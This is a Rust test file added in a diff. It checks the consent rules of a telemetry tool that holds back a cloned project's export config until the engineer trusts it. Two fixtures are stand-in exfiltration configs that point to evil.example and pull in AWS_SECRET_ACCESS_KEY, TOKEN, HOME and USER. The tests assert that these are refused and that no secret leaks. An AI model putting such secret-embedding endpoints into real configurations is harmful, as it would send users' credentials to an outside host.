@@ -1,0 +1,333 @@
+//! Consent: what a project needs before anything of it leaves, and who may say it.
+
+#![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]
+
+use otel_native::config::{
+    InitPlan, Level, PersonalPlace, PersonalPlan, ProjectPlan, Tier, init, trust, untrust,
+};
+use std::env;
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::thread;
+use std::time::{Duration, SystemTime};
+
+mod disk;
+use disk::{Disk, on, reason};
+
+const FOREIGN: &str = r#"{"otel":{"tier":1,"endpoint":"https://otlp.example"}}"#;
+
+/// Where git is found.
+fn path() -> (&'static str, String) {
+    #[expect(clippy::disallowed_methods, reason = "git is where the test's own process has it")]
+    let mut variables = env::vars();
+    ("PATH", variables.find(|(name, _)| name == "PATH").unwrap().1)
+}
+
+fn now() -> SystemTime {
+    SystemTime::UNIX_EPOCH + Duration::from_hours(500_000)
+}
+
+fn allow(disk: &Disk, cwd: &str) {
+    trust(&disk.0.join(cwd), &disk.surroundings(&[]), now()).unwrap();
+}
+
+#[test]
+fn a_cloned_project_waits_for_the_engineers_word_and_says_how_to_give_it() {
+    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
+    let told = disk.without_root(&reason(disk.resolve("project/src/deep", &[])));
+    assert_eq!(
+        told,
+        "untrusted: ~/project/.ccxray.json asks for tier 1 to https://otlp.example/v1/metrics; \
+         allow it with: npx ccxray-otel trust ~/project"
+    );
+    allow(&disk, "project/src/deep");
+    assert_eq!(on(disk.resolve("project", &[])).tier, Tier::Anonymous);
+}
+
+#[test]
+fn nothing_but_the_engineers_word_on_this_very_config_will_do() {
+    let untrusted = |disk: &Disk, env: &[(&str, &str)]| {
+        reason(disk.resolve("project", env)).starts_with("untrusted: ")
+    };
+    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
+    let tier = ("CCXRAY_OTEL_TIER", "1");
+    let endpoint = ("OTEL_EXPORTER_OTLP_ENDPOINT", "https://otlp.example");
+    assert!(
+        untrusted(&disk, &[]) && untrusted(&disk, &[tier]) && untrusted(&disk, &[tier, endpoint])
+    );
+    let own = r#"{"otel":{"tier":1,"endpoint":"https://otlp.example"}}"#;
+    for place in ["home/.ccxray.user.json", "project/.ccxray.user.json"] {
+        let disk = Disk::new().write("project/.ccxray.json", FOREIGN).write(place, own);
+        assert!(untrusted(&disk, &[]), "{place}");
+    }
+    let named = r#"{"otel":{"tier":1}}"#;
+    for place in ["project/.ccxray.json", "project/.ccxray.user.json"] {
+        let disk = Disk::new().write(place, named);
+        assert!(untrusted(&disk, &[endpoint]), "{place}: it may be set for another program");
+    }
+}
+
+#[test]
+fn a_hostile_repository_gets_nothing_and_is_told_of_in_one_line() {
+    let disk = Disk::new().write(
+        "project/.ccxray.json",
+        r#"{"otel":{"tier":2,"endpoint":"https://evil.example/${AWS_SECRET_ACCESS_KEY}",
+            "headers":{"x-tenant":"${HOME}\u001b[2J"},"names":"all","team":"${USER}"}}"#,
+    );
+    let env =
+        [("AWS_SECRET_ACCESS_KEY", "s3cret-key"), ("HOME", "s3cret-home"), ("USER", "s3cret")];
+    let resolution = disk.resolve("project", &env).unwrap();
+    assert!(!format!("{resolution:?}").contains("s3cret"), "{resolution:?}");
+    let told = disk.without_root(&reason(Ok(resolution)));
+    assert_eq!(
+        told,
+        "untrusted: ~/project/.ccxray.json asks for tier 2 to \
+         https://evil.example/${AWS_SECRET_ACCESS_KEY}, with the names of private tools, servers, \
+         skills, agents and models, with headers: x-tenant, with your variables: \
+         AWS_SECRET_ACCESS_KEY for endpoint, HOME for headers.x-tenant, USER for team; allow it \
+         with: npx ccxray-otel trust ~/project"
+    );
+    assert!(!disk.0.join("home/.ccxray").exists(), "to refuse leaves no trace");
+}
+
+#[test]
+fn loopback_needs_no_word_unless_it_reads_a_variable_or_shows_a_certificate() {
+    for (settings, free) in [
+        (r#""endpoint":"http://127.0.0.1:9""#, true),
+        (r#""endpoint":"http://[::1]:9","headers":{"x-tenant":"a"}"#, true),
+        (r#""endpoint":"http://127.0.0.1:9","headers":{"authorization":"${A}"}"#, false),
+        (r#""endpoint":"http://127.0.0.1:9","project":"${A}""#, false),
+        (r#""endpoint":"http://127.0.0.1:${A}""#, false),
+        (
+            r#""endpoint":"https://127.0.0.1:9","tls":{"certificate_file":"c","key_file":"k"}"#,
+            false,
+        ),
+        (r#""endpoint":"http://127.0.0.1.example:9""#, false),
+    ] {
+        let text = format!(r#"{{"otel":{{"tier":1,{settings}}}}}"#);
+        let disk = Disk::new().write("project/.ccxray.json", &text);
+        let resolution = disk.resolve("project", &[("A", "1")]).unwrap();
+        assert_eq!(resolution.untrusted, !free, "{settings}");
+    }
+}
+
+#[test]
+fn a_changed_config_asks_again_and_says_what_changed() {
+    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
+    allow(&disk, "project");
+    let disk = disk.write(
+        "project/.ccxray.json",
+        r#"{"otel":{"tier":1,"endpoint":"https://evil.example","headers":{"authorization":"Bearer ${TOKEN}"}}}"#,
+    );
+    assert_eq!(
+        disk.without_root(&reason(disk.resolve("project", &[("TOKEN", "s3cret")]))),
+        "untrusted: ~/project/.ccxray.json has changed since you allowed it: the endpoint was \
+         https://otlp.example/v1/metrics, is https://evil.example/v1/metrics, new header \
+         authorization, new variable TOKEN for headers.authorization; allow it with: npx ccxray-otel \
+         trust ~/project"
+    );
+    let consent = trust(&disk.0.join("project"), &disk.surroundings(&[]), now()).unwrap();
+    assert_eq!(consent.changes.len(), 3);
+    assert_eq!(on(disk.resolve("project", &[("TOKEN", "x")])).headers.iter().count(), 1);
+    let disk = disk
+        .write("project/.ccxray.json", &FOREIGN.replace("\"tier\":1", "\"team\":\"x\",\"tier\":1"));
+    assert!(reason(disk.resolve("project", &[])).contains("no header authorization any more"));
+}
+
+#[test]
+fn what_was_said_can_be_taken_back_even_when_the_file_is_gone() {
+    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
+    let forget = || untrust(&disk.0.join("project/src"), &disk.surroundings(&[])).unwrap();
+    assert!(!forget());
+    allow(&disk, "project");
+    fs::remove_file(disk.0.join("project/.ccxray.json")).unwrap();
+    assert!(forget() && !forget());
+    fs::write(disk.0.join("project/.ccxray.json"), FOREIGN).unwrap();
+    assert!(reason(disk.resolve("project", &[])).starts_with("untrusted: "));
+}
+
+#[test]
+fn the_word_is_kept_in_a_file_of_the_engineers_alone_and_holds_no_value_of_a_variable() {
+    let text = r#"{"otel":{"tier":1,"endpoint":"https://otlp.example","headers":{"authorization":"Bearer ${TOKEN}"}}}"#;
+    let disk = Disk::new().write("project/.ccxray.json", text);
+    let elsewhere = disk.0.join("elsewhere");
+    let env = [("TOKEN", "s3cret"), ("CCXRAY_HOME", elsewhere.to_str().unwrap())];
+    trust(&disk.0.join("project"), &disk.surroundings(&env), now()).unwrap();
+    assert!(!disk.0.join("home/.ccxray").exists());
+    let file = elsewhere.join("otel-trust.json");
+    let mode = |path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
+    assert_eq!((mode(&file), mode(&elsewhere)), (0o600, 0o700));
+    let kept = fs::read_to_string(&file).unwrap();
+    assert!(!kept.contains("s3cret"), "{kept}");
+    let json: serde_json::Value = serde_json::from_str(&kept).unwrap();
+    let project = &json["projects"][disk.0.join("project").to_str().unwrap()];
+    assert_eq!(project["trusted_at"], "2027-01-15T08:00:00Z");
+    assert_eq!(project["hash"].as_str().unwrap().len(), 64);
+    assert_eq!(on(disk.resolve("project", &env)).headers.iter().count(), 1);
+}
+
+#[test]
+fn a_record_that_cannot_be_believed_allows_nothing() {
+    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
+    allow(&disk, "project");
+    let file = disk.0.join("home/.ccxray/otel-trust.json");
+    let mode = |mode| fs::set_permissions(&file, fs::Permissions::from_mode(mode)).unwrap();
+    mode(0o666);
+    let told = reason(disk.resolve("project", &[]));
+    assert!(told.contains("others can write to it"), "{told}");
+    mode(0o600);
+    on(disk.resolve("project", &[]));
+    fs::write(&file, "{").unwrap();
+    let told = reason(disk.resolve("project", &[]));
+    assert!(told.contains("this is no record of trusted projects; remove it"), "{told}");
+    let refused = trust(&disk.0.join("project"), &disk.surroundings(&[]), now()).unwrap_err();
+    assert!(refused.to_string().contains("remove it"), "what cannot be read is not overwritten");
+    fs::write(&file, r#"{"version":2,"projects":{}}"#).unwrap();
+    assert!(reason(disk.resolve("project", &[])).contains("a newer version has written it"));
+}
+
+#[test]
+fn many_writers_at_once_lose_nothing() {
+    let disk = Disk::new();
+    let projects: Vec<_> = (0..16).map(|i| format!("p{i}")).collect();
+    for project in &projects {
+        fs::create_dir_all(disk.0.join(project).join(".git")).unwrap();
+        fs::write(disk.0.join(project).join(".ccxray.json"), FOREIGN).unwrap();
+    }
+    let disk = &disk;
+    thread::scope(|scope| {
+        for project in &projects {
+            scope.spawn(move || {
+                for _ in 0..5 {
+                    allow(disk, project);
+                    untrust(&disk.0.join(project), &disk.surroundings(&[])).unwrap();
+                    allow(disk, project);
+                }
+            });
+        }
+    });
+    for project in &projects {
+        on(disk.resolve(project, &[]));
+    }
+}
+
+/// A project at tier 2 in a real repository, with the engineer's file beside it.
+fn repository() -> Disk {
+    let disk = Disk::new();
+    fs::remove_dir(disk.0.join("project/.git")).unwrap();
+    disk.git("project", &["init", "-q"]);
+    disk.write("project/.ccxray.json", r#"{"otel":{"tier":2,"endpoint":"http://127.0.0.1:9"}}"#)
+        .write("project/.ccxray.user.json", r#"{"otel":{"tier":2,"identity":"me"}}"#)
+}
+
+#[test]
+fn an_identity_in_git_is_not_the_engineers_own() {
+    let disk = repository();
+    let env = [path()];
+    let env: Vec<_> = env.iter().map(|(name, value)| (*name, value.as_str())).collect();
+    assert_eq!(on(disk.resolve("project", &env)).tier.number(), 2, "not in git yet");
+    disk.git("project", &["add", ".ccxray.user.json"]);
+    let resolution = disk.resolve("project", &env).unwrap();
+    let told = resolution.warnings.join(" ");
+    assert!(told.contains("git rm --cached .ccxray.user.json"), "{told}");
+    assert_eq!(on(Ok(resolution)).tier, Tier::Anonymous);
+    let own = [env[0], ("CCXRAY_OTEL_IDENTITY", "me")];
+    assert_eq!(on(disk.resolve("project", &own)).tier.number(), 2, "their word for this launch");
+    disk.git("project", &["rm", "-q", "--cached", ".ccxray.user.json"]);
+    assert_eq!(on(disk.resolve("project", &env)).tier.number(), 2, "the cure helps");
+}
+
+#[test]
+fn a_machine_without_git_is_told_where_an_identity_is_safe() {
+    let disk = repository();
+    let resolution = disk.resolve("project", &[("PATH", "/nonexistent")]).unwrap();
+    let told = resolution.warnings.join(" ");
+    assert!(told.contains("git does not say") && told.contains("CCXRAY_OTEL_IDENTITY"), "{told}");
+    assert_eq!(on(Ok(resolution)).tier, Tier::Anonymous);
+    let home = r#"{"otel":{"identity":"me"}}"#;
+    let disk = disk.write("home/.ccxray.user.json", home);
+    assert_eq!(on(disk.resolve("project", &[("PATH", "/nonexistent")])).tier.number(), 2);
+}
+
+#[test]
+fn init_writes_a_project_and_allows_it() {
+    let disk = Disk::new();
+    let project = ProjectPlan {
+        tier: Some(Level::Anonymous),
+        endpoint: Some("https://otlp.example".to_owned()),
+        team: Some("payments".to_owned()),
+        ..ProjectPlan::default()
+    };
+    let plan = InitPlan { project: Some(project), ..InitPlan::default() };
+    let cwd = disk.0.join("project/src/deep");
+    let done = init(&cwd, &disk.surroundings(&[]), &plan, now()).unwrap();
+    let file = disk.0.join("project/.ccxray.json");
+    assert_eq!((done.written, done.asks), (vec![file.clone()], vec![]));
+    assert_eq!(
+        fs::read_to_string(file).unwrap(),
+        "{\n  \"otel\": {\n    \"tier\": 1,\n    \"endpoint\": \"https://otlp.example\",\n    \"team\": \"payments\"\n  }\n}\n"
+    );
+    assert_eq!(on(disk.resolve("project", &[])).tier, Tier::Anonymous);
+    let again = init(&cwd, &disk.surroundings(&[]), &plan, now()).unwrap();
+    assert_eq!((again.written.len(), again.unchanged.len()), (0, 1));
+}
+
+fn named(place: PersonalPlace, yes: bool) -> InitPlan {
+    let identity = Some("me".to_owned());
+    let personal = PersonalPlan { tier: Some(Level::Named), identity, place };
+    InitPlan { personal: Some(personal), yes, ..InitPlan::default() }
+}
+
+#[test]
+fn init_keeps_the_engineers_file_out_of_git_after_asking() {
+    let disk = repository();
+    let env = [path()];
+    let env: Vec<_> = env.iter().map(|(name, value)| (*name, value.as_str())).collect();
+    fs::remove_file(disk.0.join("project/.ccxray.user.json")).unwrap();
+    let disk = disk.write("project/.gitignore", "node_modules\r\ntarget");
+    let run = |yes| {
+        let plan = named(PersonalPlace::Project, yes);
+        init(&disk.0.join("project"), &disk.surroundings(&env), &plan, now()).unwrap()
+    };
+    let asked = run(false);
+    assert_eq!(asked.asks.len(), 1);
+    assert!(!disk.0.join("project/.ccxray.user.json").exists(), "nothing before it is granted");
+    assert_eq!(run(true).written.len(), 2);
+    let ignored = fs::read_to_string(disk.0.join("project/.gitignore")).unwrap();
+    assert_eq!(ignored, "node_modules\r\ntarget\r\n.ccxray.user.json\r\n");
+    assert_eq!(run(false).asks.len(), 0, "there is nothing left to ask");
+    assert_eq!(on(disk.resolve("project", &env)).tier.number(), 2);
+    disk.git("project", &["add", "--force", ".ccxray.user.json"]);
+    let plan = named(PersonalPlace::Project, true);
+    let refused = init(&disk.0.join("project"), &disk.surroundings(&env), &plan, now());
+    assert!(refused.unwrap_err().to_string().contains("git rm --cached"));
+}
+
+#[test]
+fn init_keeps_the_style_of_a_file_and_notes_the_first_agreement_to_tier_2() {
+    let before =
+        "{\n\t\"theme\": \"dark\",\n\t\"otel\": {\n\t\t\"tier\": 1\n\t},\n\t\"ports\": [1,  2]\n}";
+    let disk = Disk::new().write("home/.ccxray.user.json", before);
+    let env = [("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:9")];
+    let run = |seconds| {
+        let plan = named(PersonalPlace::Home, false);
+        let later = now() + Duration::from_secs(seconds);
+        init(&disk.0.join("project"), &disk.surroundings(&env), &plan, later).unwrap();
+        fs::read_to_string(disk.0.join("home/.ccxray.user.json")).unwrap()
+    };
+    let after = "{\n\t\"theme\": \"dark\",\n\t\"otel\": {\n\t\t\"tier\": 2,\n\t\t\"identity\": \"me\",\n\t\t\"opt_in_acknowledged_at\": \"2027-01-15T08:00:00Z\"\n\t},\n\t\"ports\": [1,  2]\n}";
+    assert_eq!(run(0), after);
+    assert_eq!(run(60), after, "the first time is kept");
+}
+
+#[test]
+fn init_writes_nothing_that_would_be_refused_later_on() {
+    let disk = Disk::new();
+    for endpoint in [None, Some("https://me:hunter2@otlp.example".to_owned())] {
+        let project =
+            ProjectPlan { tier: Some(Level::Anonymous), endpoint, ..ProjectPlan::default() };
+        let plan = InitPlan { project: Some(project), ..InitPlan::default() };
+        assert!(init(&disk.0.join("project"), &disk.surroundings(&[]), &plan, now()).is_err());
+        assert!(!disk.0.join("project/.ccxray.json").exists());
+    }
+}
